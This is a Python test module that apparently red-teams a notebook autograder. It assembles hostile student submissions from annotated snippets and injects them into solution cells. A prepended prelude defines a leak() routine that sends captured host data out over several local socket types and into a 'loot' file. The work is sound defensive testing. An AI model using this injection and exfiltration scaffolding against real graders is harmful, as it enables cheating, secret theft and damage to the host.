"""Submissions that attack the grader, and how they get into a notebook.

A file under `code/` is a sequence of blocks; what a block holds is typed behind the stub of a solution cell.
Its header says what comes of it where nothing is done against it, and the cell if it is not the first. What
names no cell is handed in for every assignment; a folder there is for the assignment of its name alone:

    # %% <effect> [<effect>...] [in <solution cell>]: <what is tried>

The code finds a dict `FIELD` with all that an attacker could know of the host, and `leak(*things)`, which
tells them to whoever can be reached. `structure.py` has the attacks on the file itself.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.hostile import structure

FOLDER = Path(__file__).parent / "code"
_HEADER = re.compile(r"^# %% (?P<effects>[a-z ]+?)(?: in (?P<cell>\w+))?: (?P<what>.+)$", re.MULTILINE)
ALL = "actor_critic"
"""The assignment for which everything is handed in, what names its cells and spoils its file as well."""

EFFECTS = ("gains", "leaks", "harms", "late", "breaks")
"""Points that are not earned, a secret told, the host changed, no end within the deadline, no verdict."""

PRELUDE = """\
FIELD = {field!r}


def leak(*things):
    import socket

    text = " ".join(map(str, things))[:200_000]
    print(text)
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", FIELD["tcp"])),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", FIELD["udp"])),
        (socket.AF_UNIX, socket.SOCK_STREAM, FIELD["unix"]),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + FIELD["abstract"]),
    ):
        try:
            with socket.socket(family, kind) as route:
                route.settimeout(2)
                route.connect(address)
                route.sendall(text.encode()[:60_000])
        except OSError:
            pass
    try:
        with open(FIELD["scratch"] + "/loot", "a") as file:
            file.write(text)
    except OSError:
        pass
"""


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes:
        kind: the class of attack.
        what: what is tried, in a few words.
        effects: what comes of it where nothing is done against it.
        hand_in: writes the submission to a path, made from a released notebook, for a field.
    """

    kind: str
    what: str
    effects: frozenset[str]
    hand_in: Callable[[Path, dict[str, Any], Mapping[str, Any]], None]

    def __str__(self) -> str:
        return f"{self.kind}: {self.what}"


def attacks(assignment: str = ALL) -> Iterator[Attack]:
    """All of the suite for an assignment, by class."""
    for path in sorted([*FOLDER.glob("*.py"), *(FOLDER / assignment).glob("*.py")]):
        anywhere = assignment != ALL and path.parent == FOLDER
        yield from parse(path.stem, path.read_text(encoding="utf-8"), anywhere)
    if assignment == ALL:
        for spoil in structure.ATTACKS:
            yield Attack(spoil.kind, spoil.what, _known(spoil.effects), spoil.hand_in)


def parse(kind: str, text: str, anywhere: bool = False) -> Iterator[Attack]:
    """The attacks in the text of one file; only those that name no cell, if they have to suit anywhere."""
    headers = list(_HEADER.finditer(text))
    for header, end in zip(headers, [h.start() for h in headers[1:]] + [len(text)], strict=True):
        code = text[header.end() : end].strip() + "\n"
        effects = _known(frozenset(header["effects"].split()))
        if header["cell"] is None or not anywhere:
            yield Attack(kind, header["what"], effects, _typed_in(header["cell"], code))


def _known(effects: frozenset[str]) -> frozenset[str]:
    if not effects or effects.difference(EFFECTS):
        raise ValueError(f"no effects of attacks: {sorted(effects) or 'none given'}")
    return effects


def _typed_in(cell: str | None, code: str) -> Callable[[Path, dict[str, Any], Mapping[str, Any]], None]:
    def hand_in(path: Path, notebook: dict[str, Any], field: Mapping[str, Any]) -> None:
        changed = with_prelude(notebook, field)
        typed_into = structure.first_solution(changed) if cell is None else structure.cell(changed, cell)
        typed_into["source"] += "\n\n" + code
        path.write_text(json.dumps(changed, ensure_ascii=False), encoding="utf-8")

    return hand_in


def with_prelude(notebook: dict[str, Any], field: Mapping[str, Any]) -> dict[str, Any]:
    """The notebook with a cell in front that knows the field."""
    changed = copy.deepcopy(notebook)
    changed["cells"].insert(0, structure.own_cell(PRELUDE.format(field=dict(field))))
    return changed
